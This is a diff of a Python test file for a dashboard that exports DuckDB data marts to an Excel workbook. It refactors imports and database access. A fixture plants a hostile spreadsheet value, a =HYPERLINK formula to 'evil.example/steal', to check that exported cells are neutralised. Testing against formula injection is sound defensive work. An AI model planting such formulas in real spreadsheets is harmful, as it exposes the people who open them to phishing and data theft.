@@ -11,19 +11,18 @@ import shutil
 import duckdb
 import openpyxl
 import pytest
-import yaml
 
 from dashboard import data, workbook
+from scripts.configuration import db
 from dashboard.safe_text import spreadsheet_cell
 from tests.conftest import REPO_ROOT
-from tests.dbt_docs import rendered
+from tests.dbt_docs import mart_models, rendered
 
 # The marts leaders and analysts use (issue 16): each must be a sheet of the workbook.
 REQUIRED_MARTS = ["fct_indicator_progress", "fct_indicator_progress_latest", "fct_region_credit_quarterly",
                   "fct_green_loans_quarterly", "fct_total_loans_quarterly", "fct_green_bonds",
                   "fct_regional_indicators_annual", "fct_region_comparison", "fct_task_status", "dim_indicator",
                   "dim_region", "dim_institution"]
-MARTS_YML = REPO_ROOT / "dbt_project" / "models" / "marts" / "_marts.yml"
 HEADER_ROW = 2  # under the sample mark
 SAMPLE_MARK = {"zh": "示例数据（合成），非官方统计", "en": "Sample data (synthetic), not official statistics"}
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal","点击查看")'
@@ -49,6 +48,7 @@ def hostile_workbook(published_sample, tmp_path_factory) -> openpyxl.Workbook:
     db_path = tmp_path_factory.mktemp("hostile_workbook") / "greenfinance.duckdb"
     shutil.copy(published_sample[0], db_path)
     with duckdb.connect(str(db_path)) as connection:
+        connection.execute("use marts")
         connection.execute("update dim_region set region_name_en = ? where region_code = '511600'", [HOSTILE_NAME])
         connection.execute("update fct_green_bonds set bond_name = ? where bond_code = (select min(bond_code) "
                            "from fct_green_bonds)", [HOSTILE_BOND])
@@ -72,7 +72,7 @@ def test_every_figure_equals_its_mart(sample_workbook):
     typed as numbers, dates as real dates, empty values as empty cells, text as written (neutralised if it
     would run as a formula). Rows are matched on each mart's key, its first column."""
     book, db_path = sample_workbook
-    with duckdb.connect(str(db_path), read_only=True) as connection:
+    with db.reading_marts(db_path) as connection:
         for mart in data.WORKBOOK_MART_SQL:
             relation = connection.table(mart)
             expected = {row[0]: row for row in relation.fetchall()}
@@ -113,12 +113,12 @@ def test_the_sample_is_marked_on_every_sheet_and_the_about_sheet_says_when_and_a
 
 def test_the_dictionary_describes_every_column_as_the_models_document_it(sample_workbook):
     """The dictionary is read from the published file (dbt's persisted comments): it must say what
-    _marts.yml says, for every mart and column, and （未描述） where the yml says nothing."""
+    marts' yml says, for every mart and column, and （未描述） where the yml says nothing."""
     book, _ = sample_workbook
     header, rows = rows_of(book["数据字典"])
     assert header == ["工作表", "列", "数据类型", "单位", "说明", "粒度（每行代表）"]
     entries = {(row[0], row[1]): dict(zip(header, row)) for row in rows}
-    documented = {model["name"]: model for model in yaml.safe_load(MARTS_YML.read_text(encoding="utf-8"))["models"]}
+    documented = {model["name"]: model for model in mart_models()}
     for mart in data.WORKBOOK_MART_SQL:
         model = documented[mart]
         assert entries[(mart, "（整表）")]["说明"] == one_line(model["description"]), mart
